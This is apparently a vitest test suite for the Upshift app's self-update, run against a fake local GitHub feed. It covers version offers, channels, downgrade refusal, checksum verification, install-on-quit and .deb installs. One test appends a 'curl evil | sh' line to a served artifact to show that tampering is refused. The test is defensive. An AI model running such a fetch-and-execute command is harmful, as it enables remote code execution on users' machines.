// Upshift updating itself through the REAL electron-updater (6.8.x), in plain Node: its AppImageUpdater built by the
// production factory (electron/main/self-updater-factory.ts) around a Node AppAdapter and HTTP executor, reading
// app-update.yml that points at a fake GitHub on 127.0.0.1 (the Atom feed, the releases API, latest-linux.yml with
// sha512 and size, the AppImage behind a 302), driven by the engine service on a real state database. The
// `electron` package is never loaded: a guard makes any require of it throw, and the suite checks none happened.
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync, rmSync } from 'node:fs';
import { createRequire } from 'node:module';
import { join } from 'node:path';
import { afterAll, afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { AppUpdater } from 'electron-updater';
import type { SelfUpdateStatus } from '../shared/policy/selfupdate.js';
import { createAppUpdater } from '../electron/main/self-updater-factory.js';
import { createUpdaterPort } from '../electron/main/self-updater.js';
import { artifactName, debName, embedBlockMap, FakeGitHubReleases, type FakeRelease } from './helpers/fake-github-releases.js';
import { electronLoads, electronModulesLoaded, installElectronGuard, NodeAppAdapter, nodeHttpExecutor } from './helpers/node-updater-runtime.js';
import { cleanupTempDirs, makeTempDir } from './helpers/repos.js';
import { closeServices, openService, rejection, type ServiceHarness } from './helpers/service.js';

installElectronGuard();

// The AppImage updater is Linux's (on macOS electron-updater's AppImage differential download throws instead of
// falling back, and the "AppImage" here is a shell script); CI runs on Linux.
const onLinux = describe.runIf(process.platform === 'linux');

const RUNNING = '0.1.0';
const DAY = 24 * 3600_000;

/** An "AppImage" that is a shell script: run once after install (APPIMAGE_EXIT_AFTER_INSTALL), it says so in a file. */
const appImage = (version: string, marker: string): Buffer =>
  Buffer.from(`#!/bin/sh\n# Upshift ${version}\necho "${version} ran, exit-after-install=$APPIMAGE_EXIT_AFTER_INSTALL" >> '${marker}'\nexit 0\n`);

interface Rig {
  gh: FakeGitHubReleases;
  dir: string;
  appImagePath: string;
  marker: string;
  oldBytes: Buffer;
  app: NodeAppAdapter;
  updater: AppUpdater;
  log: string[];
  h: ServiceHarness;
  release(version: string, extra?: Partial<FakeRelease>): FakeRelease;
  cacheFiles(): string[];
}

const servers: FakeGitHubReleases[] = [];
const savedAppImage = process.env.APPIMAGE;

beforeEach(() => {
  delete process.env.APPIMAGE;
});

afterEach(async () => {
  await closeServices();
  for (const s of servers.splice(0)) await s.stop();
  if (savedAppImage === undefined) delete process.env.APPIMAGE;
  else process.env.APPIMAGE = savedAppImage;
  cleanupTempDirs();
});

afterAll(() => {
  // The whole file ran electron-updater's check, download, verification and install without Electron.
  expect(electronLoads).toEqual([]);
  expect(electronModulesLoaded()).toEqual([]);
});

/** A packaged Upshift 0.1.0 AppImage on Linux whose app-update.yml points at a fake GitHub, and the service over it. */
async function rig(releases: (r: Rig['release']) => FakeRelease[], opts: { home?: string; appImageName?: string; existing?: Rig; packageType?: string } = {}): Promise<Rig> {
  const gh = opts.existing?.gh ?? new FakeGitHubReleases();
  if (!opts.existing) {
    await gh.start();
    servers.push(gh);
  }
  const dir = opts.existing?.dir ?? makeTempDir('upshift-feed-');
  const marker = join(dir, 'ran.log');
  const release = (version: string, extra: Partial<FakeRelease> = {}): FakeRelease => ({ version, title: `Upshift ${version}`, artifact: appImage(version, marker), ...extra });
  gh.releases = releases(release);
  const resources = join(dir, 'resources');
  mkdirSync(resources, { recursive: true });
  writeFileSync(join(resources, 'app-update.yml'), gh.appUpdateYml());
  if (opts.packageType) writeFileSync(join(resources, 'package-type'), opts.packageType);
  const appImagePath = opts.existing?.appImagePath ?? join(dir, 'apps', opts.appImageName ?? 'Upshift.AppImage');
  const oldBytes = appImage(RUNNING, marker);
  if (!opts.existing) {
    mkdirSync(join(dir, 'apps'), { recursive: true });
    writeFileSync(appImagePath, oldBytes);
    chmodSync(appImagePath, 0o755);
  }
  process.env.APPIMAGE = appImagePath;
  const app = new NodeAppAdapter(RUNNING, join(resources, 'app-update.yml'), join(dir, 'userData'), join(dir, 'cache'));
  const log: string[] = [];
  const logger = { info: (m: unknown) => void log.push(`info ${String(m)}`), warn: (m: unknown) => void log.push(`warn ${String(m)}`), error: (m: unknown) => void log.push(`error ${String(m)}`) };
  const updater = await createAppUpdater({ app, httpExecutor: () => nodeHttpExecutor(), platform: 'linux', resourcesPath: resources, logger });
  const h = await openService({
    ...(opts.home ? { home: opts.home } : {}),
    ...(opts.existing ? { clock: opts.existing.h.clock } : {}),
    selfUpdate: { host: { mode: 'app', installPath: appImagePath, electron: '45.4.1', chrome: '142.0.0.0' }, version: RUNNING, port: createUpdaterPort(updater) },
  });
  const cacheFiles = (): string[] => {
    const pending = join(dir, 'cache', 'upshift-updater', 'pending');
    return existsSync(pending) ? readdirSync(pending).sort() : [];
  };
  return { gh, dir, appImagePath, marker, oldBytes, app, updater, log, h, release, cacheFiles };
}

/** Resolves with the first status (the current one, or a later self-update-changed event) that `done` accepts. */
function statusWhen(h: ServiceHarness, done: (s: SelfUpdateStatus) => boolean): Promise<SelfUpdateStatus> {
  return new Promise((resolve, reject) => {
    let off: () => void = () => {};
    const timer = setTimeout(() => {
      off();
      reject(new Error(`no matching self-update status; last: ${JSON.stringify(h.events.of('self-update-changed').at(-1)?.status)}`));
    }, 20_000);
    const accept = (s: SelfUpdateStatus): boolean => {
      if (!done(s)) return false;
      clearTimeout(timer);
      off();
      // electron-updater emits before its checkForUpdates promise settles (a microtask later); a "Check now" sent
      // before that would get the same promise back. One turn of the event loop lets it settle.
      setImmediate(() => resolve(s));
      return true;
    };
    off = h.service.subscribe((e) => void (e.type === 'self-update-changed' && accept(e.status)));
    void h.service.getAbout({}).then((a) => accept(a.selfUpdate));
  });
}

const settled = (s: SelfUpdateStatus): boolean => s.phase !== 'idle' && s.phase !== 'checking' && s.phase !== 'downloading';

/** The first background check (due at start). */
async function firstCheck(r: Rig): Promise<SelfUpdateStatus> {
  r.h.clock.advance(0);
  return statusWhen(r.h, (s) => settled(s) && s.lastCheckAt !== null);
}

async function installOnQuit(r: Rig, version: string): Promise<SelfUpdateStatus> {
  await r.h.service.selfUpdate({ action: 'install-on-quit', version });
  return statusWhen(r.h, settled);
}

describe('the guard', () => {
  it('fails any require of electron in this process', () => {
    expect(() => createRequire(import.meta.url)('electron')).toThrow(/the electron guard/);
    expect(electronLoads.splice(0)).toHaveLength(1);
  });
});

onLinux('an update on the feed', () => {
  it('is offered with its version and release notes (GitHub HTML shown as Markdown); nothing is downloaded until asked', async () => {
    const r = await rig((rel) => [
      rel('0.2.0', { notesHtml: '<h2>Faster checks</h2>\n<p>Checks take <strong>half</strong> the time; see <a href="https://example.org/n">notes</a>.</p>\n<ul>\n<li>One &amp; two</li>\n<li><code>upshift --version</code></li>\n</ul>' }),
      rel('0.1.0'),
    ]);
    const s = await firstCheck(r);
    expect(s).toMatchObject({ managed: 'app', current: '0.1.0', channel: 'stable', phase: 'available', offer: 'offer', installOnQuit: false, error: null, refused: null });
    expect(s.available).toEqual({
      version: '0.2.0',
      releaseName: 'Upshift 0.2.0',
      notes: '## Faster checks\n\nChecks take **half** the time; see [notes](https://example.org/n).\n\n- One & two\n- `upshift --version`',
      releaseDate: '2026-12-05T12:00:00.000Z',
    });
    // What GitHubProvider asked, in order; the AppImage was not.
    expect(r.gh.requests).toEqual([
      'GET /upshift-dev/upshift/releases.atom',
      'GET /api/v3/repos/upshift-dev/upshift/releases/latest',
      'GET /upshift-dev/upshift/releases/download/v0.2.0/latest-linux.yml',
      'GET /objects/0.2.0/latest-linux.yml',
    ]);
    expect(r.updater.autoInstallOnAppQuit).toBe(false);
    expect(r.cacheFiles()).toEqual([]);
  });

  it('an equal or older version on the feed is never offered, also when the channel setter turned allowDowngrade on', async () => {
    const r = await rig((rel) => [rel('0.1.0')]);
    expect(await firstCheck(r)).toMatchObject({ phase: 'up-to-date', available: null, refused: null });

    // An older release is the latest on GitHub (a release was pulled): electron-updater itself says "not available"
    // because the adapter turned allowDowngrade off again after setting the channel.
    r.gh.releases = [r.release('0.0.9')];
    expect(r.updater.channel).toBe('latest');
    expect(r.updater.allowDowngrade).toBe(false);
    expect(await r.h.service.selfUpdate({ action: 'check' })).toMatchObject({ phase: 'up-to-date', available: null });
    expect(r.log.some((l) => /Update for version 0\.1\.0 is not available \(latest version: 0\.0\.9, downgrade is disallowed\)/.test(l))).toBe(true);

    // The trap: any code that sets `channel` turns allowDowngrade on (AppUpdater's setter), and electron-updater then
    // offers 0.0.9. The controller refuses it: not offered, not downloadable, nothing fetched.
    const offered: string[] = [];
    r.updater.on('update-available', (info: { version: string }) => void offered.push(info.version));
    r.updater.channel = 'latest';
    expect(r.updater.allowDowngrade).toBe(true);
    const s = await r.h.service.selfUpdate({ action: 'check' });
    expect(offered).toEqual(['0.0.9']);
    expect(s).toMatchObject({ phase: 'up-to-date', available: null, offer: null });
    expect(s.refused).toEqual({ version: '0.0.9', reason: '0.0.9 is older than 0.1.0, which is running: Upshift never downgrades itself' });
    expect((await rejection(r.h.service.selfUpdate({ action: 'install-on-quit', version: '0.0.9' }))).code).toBe('SELF_UPDATE_NOT_AVAILABLE');
    expect(r.gh.requests.filter((q) => q.endsWith('.AppImage'))).toEqual([]);
    expect(r.updater.autoInstallOnAppQuit).toBe(false);
  });

  it('a prerelease is not offered on the stable channel; the beta channel reads beta-linux.yml', async () => {
    const r = await rig((rel) => [rel('0.3.0-beta.1', { prerelease: true }), rel('0.2.0'), rel('0.1.0')]);
    // GitHub's "latest release" is the newest that is not a prerelease: 0.2.0.
    expect((await firstCheck(r)).available?.version).toBe('0.2.0');
    expect(r.gh.requests).not.toContain('GET /objects/0.3.0-beta.1/beta-linux.yml');

    await r.h.service.selfUpdate({ action: 'set-channel', channel: 'beta' });
    const beta = await statusWhen(r.h, (s) => s.available?.version === '0.3.0-beta.1');
    expect(beta).toMatchObject({ channel: 'beta', offer: 'offer' });
    expect(r.gh.requests).toContain('GET /objects/0.3.0-beta.1/beta-linux.yml');
    expect([r.updater.allowPrerelease, r.updater.allowDowngrade]).toEqual([true, false]);

    // Back to stable, and a beta mistakenly published as a full release (GitHub's latest, with latest-linux.yml):
    // electron-updater offers it; Upshift's policy does not.
    await r.h.service.selfUpdate({ action: 'set-channel', channel: 'stable' });
    await statusWhen(r.h, (s) => s.channel === 'stable' && settled(s));
    r.gh.releases = [r.release('0.3.0-beta.2', { channelFile: 'latest-linux.yml' }), r.release('0.2.0')];
    const stable = await r.h.service.selfUpdate({ action: 'check' });
    expect(stable).toMatchObject({ available: null, refused: { version: '0.3.0-beta.2', reason: '0.3.0-beta.2 is a prerelease and the update channel is stable' } });
  });

  it('switching channel while a check on the other channel is still running checks again on the new one', async () => {
    const r = await rig((rel) => [rel('0.3.0-beta.1', { prerelease: true }), rel('0.2.0'), rel('0.1.0')]);
    // A slow network: the beta check has chosen its release and waits for beta-linux.yml.
    const slow = r.gh.hold((p) => p.endsWith('/beta-linux.yml'));
    await r.h.service.selfUpdate({ action: 'set-channel', channel: 'beta' });
    await slow.arrived;
    // Back to stable before it answers. electron-updater would hand the running check's promise to a new
    // checkForUpdates(); its beta answer must not stand for the stable channel.
    await r.h.service.selfUpdate({ action: 'set-channel', channel: 'stable' });
    slow.release();
    const s = await statusWhen(r.h, (x) => x.available?.version === '0.2.0' && settled(x));
    expect(s).toMatchObject({ channel: 'stable', phase: 'available', offer: 'offer' });
    expect(r.gh.requests.filter((q) => q.startsWith('GET /objects/') && q.endsWith('/latest-linux.yml'))).toEqual(['GET /objects/0.2.0/latest-linux.yml']);
  });

  it('a release without a build for this system, or no release at all, is said in words; nothing changes', async () => {
    // Published before its Linux files were uploaded: no latest-linux.yml.
    const r = await rig((rel) => [rel('0.2.0', { channelFile: 'latest-mac.yml' }), rel('0.1.0')]);
    expect(await firstCheck(r)).toMatchObject({
      phase: 'error',
      available: null,
      error: 'The newest Upshift release (v0.2.0) has no latest-linux.yml for this system yet, so there is nothing to update from; its files may still be uploading.',
    });
    const missing = await rejection(r.h.service.selfUpdate({ action: 'check' }));
    expect(missing.message).toBe('Could not look for a new Upshift: The newest Upshift release (v0.2.0) has no latest-linux.yml for this system yet, so there is nothing to update from; its files may still be uploading. Nothing was changed; try again later.');
    r.gh.releases = [];
    const none = await rejection(r.h.service.selfUpdate({ action: 'check' }));
    expect(none).toMatchObject({ code: 'SELF_UPDATE_CHECK_FAILED', retryable: true, message: 'Could not look for a new Upshift: No published versions on GitHub. Nothing was changed; try again later.' });
    expect(r.gh.requests.filter((q) => q.endsWith('.AppImage'))).toEqual([]);
    expect(readFileSync(r.appImagePath)).toEqual(r.oldBytes);
  });

  it('Skip this version and Remind me later are kept in the state database across restarts', async () => {
    const first = await rig((rel) => [rel('0.2.0'), rel('0.1.0')]);
    await firstCheck(first);
    expect(await first.h.service.selfUpdate({ action: 'skip', version: '0.2.0' })).toMatchObject({ offer: 'skipped' });

    // A restart: a new updater and service on the same state directory; the feed still has 0.2.0.
    await first.h.service.close();
    const second = await rig((rel) => [rel('0.2.0'), rel('0.1.0')], { home: first.h.home, existing: first });
    second.h.clock.advance(6 * 3600_000); // the next background check is due six hours after the last
    expect(await statusWhen(second.h, (s) => s.available?.version === '0.2.0' && settled(s))).toMatchObject({ offer: 'skipped' });

    // A newer release is offered as usual; postponing it holds across another restart, for a day.
    second.gh.releases = [second.release('0.2.1'), second.release('0.2.0'), second.release('0.1.0')];
    expect(await second.h.service.selfUpdate({ action: 'check' })).toMatchObject({ offer: 'offer', available: { version: '0.2.1' } });
    const later = await second.h.service.selfUpdate({ action: 'remind-later', version: '0.2.1' });
    expect(later).toMatchObject({ offer: 'remind-later', remindUntil: new Date(second.h.clock.now() + DAY).toISOString() });
    await second.h.service.close();
    const third = await rig((rel) => [rel('0.2.1'), rel('0.2.0'), rel('0.1.0')], { home: first.h.home, existing: second });
    expect(await third.h.service.selfUpdate({ action: 'check' })).toMatchObject({ offer: 'remind-later', available: { version: '0.2.1' } });
    third.h.clock.advance(DAY);
    expect((await third.h.service.getAbout({})).selfUpdate.offer).toBe('offer');
  });
});

onLinux('download and install on quit', () => {
  it('downloads with progress, verifies sha512, and on quit puts the new AppImage in place and runs it once', async () => {
    const r = await rig((rel) => [rel('0.2.0'), rel('0.1.0')]);
    await firstCheck(r);
    const s = await installOnQuit(r, '0.2.0');
    expect(s).toMatchObject({ phase: 'downloaded', installOnQuit: true, error: null });
    expect(r.h.events.of('self-update-changed').some((e) => e.status.phase === 'downloading')).toBe(true);
    expect(r.gh.requests).toContain(`GET /objects/0.2.0/${artifactName('0.2.0')}`);
    expect(r.cacheFiles()).toEqual([artifactName('0.2.0'), 'update-info.json']);
    expect(r.updater.autoInstallOnAppQuit).toBe(true);
    // The fake publishes no block map: electron-updater's differential download gives way to a full one.
    expect(r.log.some((l) => /Cannot download differentially, fallback to full download/.test(l))).toBe(true);
    // Nothing changes before the app quits.
    expect(readFileSync(r.appImagePath)).toEqual(r.oldBytes);

    expect(r.app.quitApp(0)).toBe(1);
    const installed = r.gh.releases[0]!.artifact;
    expect(readFileSync(r.appImagePath)).toEqual(installed);
    expect(statSync(r.appImagePath).mode & 0o777).toBe(0o755);
    expect(readFileSync(r.marker, 'utf8')).toBe('0.2.0 ran, exit-after-install=true\n');
    expect(readdirSync(join(r.dir, 'apps'))).toEqual(['Upshift.AppImage']);
  });

  it('Install on quit chosen before a crash: the next start reuses the verified download and installs on quit', async () => {
    const first = await rig((rel) => [rel('0.2.0'), rel('0.1.0')]);
    await firstCheck(first);
    await installOnQuit(first, '0.2.0');
    // The app is killed: no quit event, nothing installed.
    await first.h.service.close();
    expect(readFileSync(first.appImagePath)).toEqual(first.oldBytes);

    const second = await rig((rel) => [rel('0.2.0'), rel('0.1.0')], { home: first.h.home, existing: first });
    second.h.clock.advance(6 * 3600_000);
    expect(await statusWhen(second.h, (s) => s.phase === 'downloaded')).toMatchObject({ installOnQuit: true, available: { version: '0.2.0' } });
    // electron-updater found its cached file with the release's sha512: not fetched again.
    expect(second.gh.requests.filter((q) => q.endsWith('.AppImage'))).toHaveLength(2); // one 302, one object: the first run's
    expect(second.app.quitApp(0)).toBe(1);
    expect(readFileSync(second.appImagePath)).toEqual(second.gh.releases[0]!.artifact);
  });

  it('differential download: with electron-builder\'s embedded block maps only the changed blocks are fetched', async () => {
    const r = await rig((rel) => [rel('0.1.0')]);
    // Two AppImages that share 600 KB of payload except for 1 KB in the middle, each with its block map appended
    // (the shell script header exits before the payload).
    let seed = 1;
    const payload = Buffer.alloc(600_000);
    for (let i = 0; i < payload.length; i++) payload[i] = (seed = (seed * 1103515245 + 12345) >>> 0) >>> 24;
    const changed = Buffer.from(payload);
    changed.fill(7, 300_000, 301_000);
    const old = await embedBlockMap(Buffer.concat([appImage('0.1.0', r.marker), payload]));
    const next = await embedBlockMap(Buffer.concat([appImage('0.2.0', r.marker), changed]));
    writeFileSync(r.appImagePath, old.bytes);
    r.gh.releases = [r.release('0.2.0', { artifact: next.bytes, blockMapSize: next.blockMapSize, directDownload: true }), r.release('0.1.0')];
    await firstCheck(r);
    expect(await installOnQuit(r, '0.2.0')).toMatchObject({ phase: 'downloaded', error: null });
    expect(r.log.some((l) => /fallback to full download/.test(l))).toBe(false);
    const fetched = r.gh.bytesServed.get(`/upshift-dev/upshift/releases/download/v0.2.0/${artifactName('0.2.0')}`) ?? 0;
    expect(fetched).toBeGreaterThan(0);
    expect(fetched).toBeLessThan(next.bytes.length / 4); // the changed blocks (16 KB on average), the header, the block map
    r.app.quitApp(0);
    expect(readFileSync(r.appImagePath)).toEqual(next.bytes);
    expect(readFileSync(r.marker, 'utf8')).toBe('0.2.0 ran, exit-after-install=true\n');
  });

  it('a tampered artifact is refused with a clear error; nothing is kept or installed', async () => {
    const r = await rig((rel) => [rel('0.2.0'), rel('0.1.0')]);
    r.gh.releases[0]!.servedArtifact = Buffer.concat([r.gh.releases[0]!.artifact, Buffer.from('curl evil | sh\n')]);
    await firstCheck(r);
    const s = await installOnQuit(r, '0.2.0');
    expect(s.phase).toBe('error');
    expect(s.error).toBe('The download did not match the sha512 checksum its release published, so it was deleted and nothing was installed; the running Upshift is unchanged. Try again later — if it happens again, the release or something between you and GitHub altered the file.');
    expect(r.log.some((l) => /sha512 checksum mismatch/.test(l))).toBe(true);
    expect(r.cacheFiles()).toEqual([]);
    expect(r.app.quitApp(0)).toBe(0); // no quit handler: electron-updater registers it only after a verified download
    expect(readFileSync(r.appImagePath)).toEqual(r.oldBytes);
    expect(existsSync(r.marker)).toBe(false);
  });

  it('"Do not install on quit" after the download: quitting installs nothing; choosing it again installs', async () => {
    const r = await rig((rel) => [rel('0.2.0'), rel('0.1.0')]);
    await firstCheck(r);
    await r.h.service.selfUpdate({ action: 'install-on-quit', version: '0.2.0' });
    // Taken back while the download runs: electron-updater then registers no quit handler when it completes.
    await r.h.service.selfUpdate({ action: 'cancel-install-on-quit' });
    expect(await statusWhen(r.h, settled)).toMatchObject({ phase: 'downloaded', installOnQuit: false });
    expect(r.updater.autoInstallOnAppQuit).toBe(false);
    // Chosen again: the adapter registers the handler electron-updater skipped, without downloading again.
    const again = await r.h.service.selfUpdate({ action: 'install-on-quit', version: '0.2.0' });
    expect(again).toMatchObject({ phase: 'downloaded', installOnQuit: true });
    expect(r.gh.requests.filter((q) => q.startsWith('GET /objects/') && q.endsWith('.AppImage'))).toHaveLength(1);
    await r.h.service.selfUpdate({ action: 'cancel-install-on-quit' });
    r.app.quitApp(0);
    expect(readFileSync(r.appImagePath)).toEqual(r.oldBytes);

    const r2 = await rig((rel) => [rel('0.2.0'), rel('0.1.0')]);
    await firstCheck(r2);
    await r2.h.service.selfUpdate({ action: 'install-on-quit', version: '0.2.0' });
    await r2.h.service.selfUpdate({ action: 'cancel-install-on-quit' });
    await statusWhen(r2.h, settled);
    await r2.h.service.selfUpdate({ action: 'install-on-quit', version: '0.2.0' });
    expect(r2.app.quitApp(0)).toBe(1);
    expect(readFileSync(r2.appImagePath)).toEqual(r2.gh.releases[0]!.artifact);
  });

  it('quitting with a failure exit code installs nothing (electron-updater\'s rule)', async () => {
    const r = await rig((rel) => [rel('0.2.0'), rel('0.1.0')]);
    await firstCheck(r);
    await installOnQuit(r, '0.2.0');
    expect(r.app.quitApp(1)).toBe(1);
    expect(readFileSync(r.appImagePath)).toEqual(r.oldBytes);
    expect(r.log.some((l) => /application is quitting with exit code 1/.test(l))).toBe(true);
  });

  it('a versioned AppImage name becomes the new version\'s name, and the old file goes', async () => {
    const r = await rig((rel) => [rel('0.2.0'), rel('0.1.0')], { appImageName: artifactName('0.1.0') });
    const renamed: string[] = [];
    r.updater.on('appimage-filename-updated', (p: string) => void renamed.push(p));
    await firstCheck(r);
    await installOnQuit(r, '0.2.0');
    r.app.quitApp(0);
    const now = join(r.dir, 'apps', artifactName('0.2.0'));
    expect(readdirSync(join(r.dir, 'apps'))).toEqual([artifactName('0.2.0')]);
    expect(readFileSync(now)).toEqual(r.gh.releases[0]!.artifact);
    expect(renamed).toEqual([now]);
  });
});

onLinux('a failed install leaves the running AppImage intact', () => {
  it('the download was altered in the cache after it was verified: refused at quit, old AppImage kept', async () => {
    const r = await rig((rel) => [rel('0.2.0'), rel('0.1.0')]);
    await firstCheck(r);
    await installOnQuit(r, '0.2.0');
    const cached = join(r.dir, 'cache', 'upshift-updater', 'pending', artifactName('0.2.0'));
    writeFileSync(cached, 'truncated');
    r.app.quitApp(0);
    expect(readFileSync(r.appImagePath)).toEqual(r.oldBytes);
    const s = await statusWhen(r.h, (x) => x.phase === 'error');
    expect(s.error).toMatch(/no longer matches the sha512 its release published .*nothing was installed; .*Upshift\.AppImage was left as it was/);
  });

  it('the new file cannot be written beside the old one: old AppImage kept, the error says so', async () => {
    const r = await rig((rel) => [rel('0.2.0'), rel('0.1.0')]);
    await firstCheck(r);
    await installOnQuit(r, '0.2.0');
    // Something already holds the staging name (a directory): the copy fails before anything is replaced.
    mkdirSync(join(r.dir, 'apps', '.Upshift.AppImage.upshift-update', 'x'), { recursive: true });
    r.app.quitApp(0);
    expect(readFileSync(r.appImagePath)).toEqual(r.oldBytes);
    expect(existsSync(join(r.dir, 'apps', '.Upshift.AppImage.upshift-update', 'x'))).toBe(true);
    const s = await statusWhen(r.h, (x) => x.phase === 'error');
    expect(s.error).toMatch(/could not be written beside .*Upshift\.AppImage \(EISDIR\): nothing was installed/);
  });

  it('why Upshift replaces electron-updater\'s AppImage install: its own deletes the old AppImage before the move', async () => {
    const r = await rig((rel) => [rel('0.2.0'), rel('0.1.0')]);
    // electron-updater's AppImageUpdater as it ships, over the same adapter, executor and feed.
    const { AppImageUpdater } = await import('electron-updater');
    const plain = new AppImageUpdater(undefined, r.app);
    (plain as unknown as { httpExecutor: unknown }).httpExecutor = nodeHttpExecutor();
    plain.logger = null;
    plain.autoDownload = false;
    const errors: string[] = [];
    plain.on('error', (e: Error) => void errors.push(e.message));
    await plain.checkForUpdates();
    await plain.downloadUpdate();
    rmSync(join(r.dir, 'cache', 'upshift-updater', 'pending', artifactName('0.2.0')));
    r.app.quitApp(0);
    expect(existsSync(r.appImagePath)).toBe(false); // no Upshift left at all
    expect(errors.join('\n')).toMatch(/mv/);
  });
});

// Up to the boundary: the package manager itself. dpkg, apt-get and apt are stand-ins on PATH that record what they
// were asked (the real ones would change this machine). As root electron-updater runs them directly; as another
// user it goes through pkexec or sudo, which is not exercised here.
onLinux('the deb package (resources/package-type: deb)', () => {
  const asRoot = process.getuid?.() === 0;
  const savedPath = process.env.PATH;
  afterEach(() => {
    process.env.PATH = savedPath;
  });

  function packageManagers(dir: string, dpkgExit: number, aptGetExit: number): string {
    const bin = join(dir, 'bin');
    mkdirSync(bin, { recursive: true });
    const calls = join(dir, 'calls.log');
    const stub = (name: string, exit: number, extra = ''): void => {
      writeFileSync(join(bin, name), `#!/bin/sh\necho "${name} $*" >> '${calls}'\n${extra}exit ${exit}\n`);
      chmodSync(join(bin, name), 0o755);
    };
    // dpkg keeps a copy of the package it was given, to compare with the release's bytes.
    stub('dpkg', dpkgExit, `[ "$1" = "-i" ] && cp "$2" '${join(dir, 'received.deb')}'\n`);
    stub('apt-get', aptGetExit);
    stub('apt', 1);
    process.env.PATH = `${bin}:${savedPath ?? ''}`;
    return calls;
  }

  it.runIf(asRoot)('downloads the .deb (not the AppImage), verifies it, and on quit hands exactly that file to dpkg -i', async () => {
    const deb = Buffer.from('!<arch>\ndebian-binary   upshift 0.2.0 package bytes\n');
    const r = await rig((rel) => [rel('0.2.0', { deb }), rel('0.1.0')], { packageType: 'deb\n' });
    const calls = packageManagers(r.dir, 0, 0);
    const { DebUpdater } = await import('electron-updater');
    expect(r.updater).toBeInstanceOf(DebUpdater);
    await firstCheck(r);
    expect(await installOnQuit(r, '0.2.0')).toMatchObject({ phase: 'downloaded', installOnQuit: true });
    expect(r.gh.requests).toContain(`GET /objects/0.2.0/${debName('0.2.0')}`);
    expect(r.gh.requests.filter((q) => q.endsWith('.AppImage'))).toEqual([]);
    expect(r.cacheFiles()).toContain(debName('0.2.0'));
    expect(r.app.quitApp(0)).toBe(1);
    const pending = join(r.dir, 'cache', 'upshift-updater', 'pending', debName('0.2.0'));
    expect(readFileSync(calls, 'utf8')).toBe(`dpkg -i ${pending}\n`);
    expect(readFileSync(join(r.dir, 'received.deb'))).toEqual(deb);
    expect(readFileSync(r.appImagePath)).toEqual(r.oldBytes); // the AppImage path is not this package's
  });

  it.runIf(asRoot)('dpkg fails and apt-get cannot fix it: the error reaches About; a tampered .deb never reaches dpkg', async () => {
    const deb = Buffer.from('!<arch>\nupshift 0.2.0\n');
    const r = await rig((rel) => [rel('0.2.0', { deb }), rel('0.1.0')], { packageType: 'deb' });
    const calls = packageManagers(r.dir, 1, 100);
    await firstCheck(r);
    await installOnQuit(r, '0.2.0');
    r.app.quitApp(0);
    expect(readFileSync(calls, 'utf8').split('\n').filter(Boolean).map((l) => l.split(' ').slice(0, 2).join(' '))).toEqual(['dpkg -i', 'apt-get install']);
    expect((await statusWhen(r.h, (s) => s.phase === 'error')).error).toMatch(/apt-get exited with code 100/);

    // Served bytes that differ from what latest-linux.yml published: refused before any package manager runs.
    const t = await rig((rel) => [rel('0.2.0', { deb, servedDeb: Buffer.from('!<arch>\nsomething else\n') }), rel('0.1.0')], { packageType: 'deb' });
    const tCalls = packageManagers(t.dir, 0, 0);
    await firstCheck(t);
    expect((await installOnQuit(t, '0.2.0')).error).toMatch(/^The download did not match the sha512 checksum/);
    expect(t.app.quitApp(0)).toBe(0);
    expect(existsSync(tCalls)).toBe(false);
  });
});
